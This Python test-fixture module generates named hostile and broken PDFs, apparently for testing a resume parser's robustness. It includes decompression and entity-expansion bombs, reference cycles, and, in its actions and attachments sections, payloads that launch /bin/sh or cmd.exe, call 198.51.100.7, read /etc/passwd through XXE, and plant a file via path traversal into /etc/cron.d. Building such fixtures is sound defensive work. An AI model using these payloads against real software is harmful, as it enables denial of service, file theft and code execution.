"""Hostile and broken PDFs, by name."""

import random
import zlib
from collections.abc import Callable, Iterator
from typing import Final

from tests.documents.papers import Text, encrypted, pdf, raw_pdf

HONEST: Final = pdf([Text(50, 60 + 12 * line, f"Line {line} of an honest resume") for line in range(40)])
PRINT: Final = b"BT /F1 12 Tf 50 700 Td (An honest resume) Tj ET\n"
BOX: Final = b"/MediaBox [0 0 595 842]"


def assembled(*objects: bytes, trailer: bytes = b"/Root 1 0 R", version: bytes = b"1.7") -> bytes:
    """Give a PDF of these objects, numbered from 1, with a true cross-reference table."""
    out, places = bytearray(b"%PDF-" + version + b"\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d " % (len(objects) + 1) + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % table
    return bytes(out)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """Give a stream object."""
    return b"<< /Length %d " % len(content) + entries + b" >>\nstream\n" + content + b"\nendstream"


def page(more: bytes = b"", *objects: bytes, content: bytes = PRINT, catalog: bytes = b"") -> bytes:
    """Give a PDF of one page; `more` goes into its dictionary, further objects are numbered from 6."""
    if b"/Resources" not in more:
        more += _fonts(b"")
    return assembled(
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R " + BOX + b" /Contents 4 0 R " + more + b" >>",
        stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        *objects,
    )


def _fonts(inner: bytes) -> bytes:
    return b"/Resources << /Font << /F1 5 0 R >> " + inner + b" >>"


def streams() -> Iterator[tuple[str, bytes]]:
    """Streams that grow when they are unpacked, or cannot be."""
    much = zlib.compress(b"0 0 m\n" * 8_000_000, 9)
    yield "flate-bomb", _filtered(much, b"/FlateDecode")
    yield "flate-bomb-twice", _filtered(zlib.compress(much, 9), b"[/FlateDecode /FlateDecode]")
    nested = much
    for _ in range(8):
        nested = zlib.compress(nested, 9)
    yield "flate-bomb-nested", _filtered(nested, b"[" + b"/FlateDecode " * 9 + b"]")
    yield "ascii-hex-long", _filtered(b"41" * 2_000_000 + b">", b"/ASCIIHexDecode")
    yield "run-length-bomb", _filtered(b"\x81A" * 500_000 + b"\x80", b"/RunLengthDecode")
    yield "lzw-noise", _filtered(random.Random(1).randbytes(200_000), b"/LZWDecode")  # noqa: S311
    yield "unknown-filter", _filtered(b"abc", b"/NoSuchDecode")
    yield "crypt-filter", _filtered(b"abc", b"/Crypt")
    yield (
        "predictor-columns",
        _filtered(
            zlib.compress(b"\x02" * 1000), b"/FlateDecode /DecodeParms << /Predictor 12 /Columns 2000000000 >>"
        ),
    )


def drawings() -> Iterator[tuple[str, bytes]]:
    """Pages that ask for more drawing than can be done."""
    yield "forms-doubling", _doubling(24)
    yield (
        "forms-in-a-ring",
        page(
            _fonts(b"/XObject << /X 6 0 R >>"),
            stream(
                b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 6 0 R >> >>"
            ),
            content=PRINT + b"/X Do\n",
        ),
    )
    yield (
        "pattern-in-itself",
        page(
            _fonts(b"/Pattern << /P 6 0 R >>"),
            stream(
                b"/Pattern cs /P scn 0 0 9 9 re f",
                b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001"
                b" /Resources << /Pattern << /P 6 0 R >> >>",
            ),
            content=PRINT + b"/Pattern cs /P scn 0 0 595 842 re f\n",
        ),
    )
    yield (
        "huge-image",
        page(
            _fonts(b"/XObject << /X 6 0 R >>"),
            stream(
                zlib.compress(bytes(1000)),
                b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB"
                b" /BitsPerComponent 8 /Filter /FlateDecode",
            ),
            content=PRINT + b"q 500 0 0 500 0 0 cm /X Do Q\n",
        ),
    )
    yield (
        "negative-image",
        page(
            _fonts(b"/XObject << /X 6 0 R >>"),
            stream(b"a", b"/Subtype /Image /Width -5 /Height -5 /ColorSpace /DeviceGray /BitsPerComponent 8"),
            content=PRINT + b"/X Do\n",
        ),
    )
    yield "half-a-million-lines", _filtered(zlib.compress(PRINT + b"0 0 m 9 9 l S\n" * 350_000), b"/FlateDecode")
    yield (
        "hundred-thousand-words",
        _filtered(zlib.compress(b"BT /F1 1 Tf " + b"1 0 0 1 9 9 Tm (word) Tj " * 100_000 + b"ET"), b"/FlateDecode"),
    )
    yield "deep-graphics-state", _filtered(zlib.compress(PRINT + b"q " * 200_000), b"/FlateDecode")
    yield "deep-array-operand", page(content=PRINT + b"[" * 50_000 + b"]" * 50_000 + b" TJ\n")
    yield "deep-dictionary-operand", page(content=PRINT + b"/A <<" * 20_000 + b">>" * 20_000 + b" BDC\n")
    yield "dash-of-a-million", page(content=PRINT + b"[" + b"0.001 " * 200_000 + b"] 0 d 0 0 m 595 842 l S\n")


def _filtered(data: bytes, name: bytes) -> bytes:
    return raw_pdf(data).replace(b"<< /Length", b"<< /Filter " + name + b" /Length")


def _doubling(levels: int) -> bytes:
    """Give a page whose form draws a form twice, which draws a form twice, and so on."""
    forms = []
    for level in range(levels):
        entries = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>"
        forms.append(stream(b"/X Do /X Do", entries % (7 + level)))
    forms.append(stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]"))
    return page(_fonts(b"/XObject << /X 6 0 R >>"), *forms, content=PRINT + b"/X Do\n")


def tables() -> Iterator[tuple[str, bytes]]:
    """Cross-reference tables and page trees that lie."""
    at = HONEST.rfind(b"startxref")
    table = int(HONEST[at:].split()[1])
    yield "xref-far-away", HONEST[:at] + b"startxref\n999999999\n%%EOF\n"
    yield "xref-negative", HONEST[:at] + b"startxref\n-5\n%%EOF\n"
    yield "xref-of-nothing", HONEST[:at] + b"startxref\n0\n%%EOF\n"
    yield "xref-loop", HONEST[:at].replace(b"/Root", b"/Prev %d /Root" % table) + HONEST[at:]
    yield "xref-stream-loop", HONEST[:at].replace(b"/Root", b"/XRefStm %d /Root" % table) + HONEST[at:]
    yield "size-of-a-billion", HONEST.replace(b"/Size", b"/Size 1000000000 /Was")
    yield "no-root", HONEST.replace(b"/Root", b"/Toor")
    yield "root-is-a-page", HONEST.replace(b"/Type /Catalog", b"/Type /Page   ")
    yield "no-pages", assembled(b"<< /Type /Catalog >>")
    yield (
        "pages-is-itself",
        assembled(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
    )
    yield (
        "pages-in-a-ring",
        assembled(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
        ),
    )
    yield (
        "page-a-million-times",
        assembled(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + b"3 0 R " * 100_000 + b"] /Count 100000 >>",
            b"<< /Type /Page /Parent 2 0 R " + BOX + b" >>",
        ),
    )
    yield "count-negative", HONEST.replace(b"/Count 1", b"/Count -1")
    yield "count-of-a-billion", HONEST.replace(b"/Count 1", b"/Count 1000000000")
    yield "page-tree-of-5000-levels", _tall(5000)


def objects() -> Iterator[tuple[str, bytes]]:
    """Objects without end, and pages without measure."""
    yield "reference-to-itself", page(b"/Rotate 6 0 R", b"6 0 R")
    yield "references-in-a-ring", page(b"/Rotate 6 0 R", b"7 0 R", b"6 0 R")
    yield "length-refers-to-itself", page(content=PRINT).replace(b"<< /Length %d" % len(PRINT), b"<< /Length 4 0 R")
    yield "length-of-a-billion", page().replace(b"<< /Length %d" % len(PRINT), b"<< /Length 1000000000")
    yield "length-negative", page().replace(b"<< /Length %d" % len(PRINT), b"<< /Length -20")
    yield "deep-array", page(b"/Deep " + b"[" * 100_000 + b"]" * 100_000)
    yield "deep-dictionary", page(b"/Deep " + b"<< /A " * 30_000 + b"1" + b" >>" * 30_000)
    yield "name-of-a-megabyte", page(b"/" + b"N" * 1_000_000 + b" 1")
    yield "string-never-ends", page(b"/Title (" + b"(" * 100_000)
    yield "number-of-a-megabyte", page(b"/Rotate " + b"9" * 1_000_000)
    yield (
        "object-stream-of-itself",
        page(b"", stream(b"6 0 << >>", b"/Type /ObjStm /N 100000000 /First 4 /Extends 6 0 R")),
    )
    yield "box-of-nothing", page().replace(BOX, b"/MediaBox [0 0 0 0]")
    yield "box-inside-out", page().replace(BOX, b"/MediaBox [595 842 0 0]")
    yield "box-not-a-number", page().replace(BOX, b"/MediaBox [/a (b) null 1e999]")
    yield "box-of-a-light-year", page().replace(BOX, b"/MediaBox [0 0 9e30 9e30]")
    yield "box-missing", page().replace(BOX, b"")
    yield "crop-outside", page(b"/CropBox [9000 9000 9100 9100]")
    yield "unit-of-a-million", page(b"/UserUnit 1000000")
    yield "rotate-by-seven", page(b"/Rotate 7")
    yield "contents-of-a-string", page().replace(b"/Contents 4 0 R", b"/Contents (no)")
    yield (
        "contents-ten-thousand-times",
        page().replace(b"/Contents 4 0 R", b"/Contents [" + b"4 0 R " * 10_000 + b"]"),
    )


def files() -> Iterator[tuple[str, bytes]]:
    """Files that are cut, doubled, locked or surrounded by something else."""
    yield "two-ends", HONEST + HONEST
    yield "junk-before", random.Random(2).randbytes(900) + HONEST  # noqa: S311
    yield "junk-after", HONEST + random.Random(3).randbytes(500_000)  # noqa: S311
    yield "version-nine", HONEST.replace(b"%PDF-1", b"%PDF-9", 1)
    yield "only-a-head", b"%PDF-1.7\n"
    yield "only-head-and-end", b"%PDF-1.7\n%%EOF\n"
    yield "half", HONEST[: len(HONEST) // 2]
    yield "password", encrypted(HONEST, "secret")
    yield "encryption-unknown", HONEST.replace(b"/Root", b"/Encrypt << /Filter /Nobody /V 99 >> /Root")
    yield "encryption-ring", HONEST.replace(b"/Root", b"/Encrypt 1 0 R /Root")


def _tall(levels: int) -> bytes:
    nodes = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 3) for number in range(levels)]
    last = b"<< /Type /Page /Parent %d 0 R " % (levels + 1) + BOX + b" >>"
    return assembled(b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, last)


def actions() -> Iterator[tuple[str, bytes]]:
    """What would run, call or open something if it were obeyed."""
    js = b"<< /S /JavaScript /JS (app.alert\\('x'\\); while\\(1\\){}) >>"
    yield "javascript-on-open", page(catalog=b"/OpenAction " + js)
    yield "javascript-named", page(catalog=b"/Names << /JavaScript << /Names [(a) " + js + b"] >> >>")
    yield "javascript-of-a-page", page(b"/AA << /O " + js + b" >>")
    yield (
        "javascript-next-in-a-ring",
        page(b"", b"<< /S /JavaScript /JS (1) /Next 6 0 R >>", catalog=b"/OpenAction 6 0 R"),
    )
    yield "launch", page(catalog=b"/OpenAction << /S /Launch /F (/bin/sh) >>")
    yield "launch-of-windows", page(catalog=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")
    yield "uri", page(catalog=b"/OpenAction << /S /URI /URI (http://198.51.100.7/ping) >>")
    yield "submit-form", page(catalog=b"/OpenAction << /S /SubmitForm /F (http://198.51.100.7/) >>")
    yield "import-data", page(catalog=b"/OpenAction << /S /ImportData /F (/etc/passwd) >>")
    yield "goto-remote", page(catalog=b"/OpenAction << /S /GoToR /F (//198.51.100.7/share/a.pdf) /D [0 /Fit] >>")
    yield "external-stream", page().replace(b"<< /Length", b"<< /F (/etc/passwd) /FFilter [] /Length")
    yield (
        "external-image",
        page(
            _fonts(b"/XObject << /X 6 0 R >>"),
            stream(b"", b"/Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (http://198.51.100.7/a.png) >>"),
            content=PRINT + b"/X Do\n",
        ),
    )


def attachments() -> Iterator[tuple[str, bytes]]:
    """What hangs on pages and catalogs: files, annotations, outlines, forms, metadata."""
    yield (
        "attachment-program",
        page(
            b"",
            b"<< /Type /Filespec /F (../../../../etc/cron.d/x) /EF << /F 7 0 R >> >>",
            stream(b"MZ" + bytes(500), b"/Type /EmbeddedFile"),
            catalog=b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
        ),
    )
    yield "attachments-in-a-ring", page(b"", b"<< /Kids [6 0 R] >>", catalog=b"/Names << /EmbeddedFiles 6 0 R >>")
    yield "rich-media", page(b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]")
    yield "annotations-of-thousands", page(b"/Annots [" + b"<< /Subtype /Link /Rect [0 0 9 9] >> " * 20_000 + b"]")
    yield (
        "annotation-popup-ring",
        page(b"/Annots [6 0 R]", b"<< /Subtype /Text /Rect [0 0 9 9] /Popup 6 0 R /Parent 6 0 R >>"),
    )
    yield (
        "outline-ring",
        page(
            b"", b"<< /Title (a) /Next 6 0 R /First 6 0 R >>", catalog=b"/Outlines << /First 6 0 R /Count 9999999 >>"
        ),
    )
    yield "form-fields-ring", page(b"", b"<< /T (a) /Kids [6 0 R] >>", catalog=b"/AcroForm << /Fields [6 0 R] >>")
    yield (
        "xfa-form",
        page(
            b"",
            stream(b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><xdp>&x;</xdp>'),
            catalog=b"/AcroForm << /XFA 6 0 R >>",
        ),
    )
    yield (
        "metadata-entities",
        page(
            b"",
            stream(
                b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "'
                + b"&a;" * 5000
                + b'">]><x>'
                + b"&b;" * 5000
                + b"</x>",
                b"/Type /Metadata /Subtype /XML",
            ),
            catalog=b"/Metadata 6 0 R",
        ),
    )


def fonts() -> Iterator[tuple[str, bytes]]:
    """Fonts without mappings, with wrong ones, and broken font programs."""
    for name, font in {
        "font-missing": b"null",
        "font-is-itself": b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H"
        b" /DescendantFonts [5 0 R] >>",
        "font-type3-in-itself": b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0]"
        b" /FirstChar 0 /LastChar 255 /Widths [] /Encoding << /Differences [65 /A] >> /CharProcs << /A 4 0 R >>"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        "font-without-mapping": b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts"
        b" [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo"
        b" << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>] >>",
        "font-widths-huge": b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FirstChar 0 /LastChar 255"
        b" /Widths [" + b"1e30 " * 256 + b"] >>",
        "font-name-of-a-path": b"<< /Type /Font /Subtype /TrueType /BaseFont /..#2F..#2Fetc#2Fpasswd >>",
    }.items():
        yield (
            name,
            raw_pdf(PRINT).replace(
                b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>", font
            ),
        )


def programs() -> Iterator[tuple[str, bytes]]:
    """Font programs that are none, and mappings to Unicode that grow."""
    for name, program in {
        "font-program-of-noise": random.Random(4).randbytes(50_000),  # noqa: S311
        "font-program-cut": b"\x00\x01\x00\x00\x00\xff",
        "font-program-empty": b"",
    }.items():
        yield (
            name,
            page(
                b"/Resources << /Font << /F1 6 0 R >> >>",
                b"<< /Type /Font /Subtype /TrueType /BaseFont /A /FontDescriptor 7 0 R >>",
                b"<< /Type /FontDescriptor /FontName /A /Flags 4 /FontFile2 8 0 R >>",
                stream(program, b"/Length1 %d" % len(program)),
            ),
        )
    for name, mapping in {
        "mapping-bomb": b"1 begincodespacerange <00> <ff> endcodespacerange"
        b" 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange",
        "mapping-to-a-megabyte": b"1 beginbfchar <41> <" + b"0041" * 250_000 + b"> endbfchar",
        "mapping-to-surrogates": b"1 beginbfchar <41> <d800> endbfchar 1 beginbfchar <6e> <0000> endbfchar",
        "mapping-uses-itself": b"/A usecmap " * 1000,
    }.items():
        yield (
            name,
            page(
                b"/Resources << /Font << /F1 6 0 R >> >>",
                b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 7 0 R >>",
                stream(mapping),
            ),
        )


PARTS: Final[tuple[Callable[[], Iterator[tuple[str, bytes]]], ...]] = (
    streams,
    drawings,
    tables,
    objects,
    files,
    actions,
    attachments,
    fonts,
    programs,
)
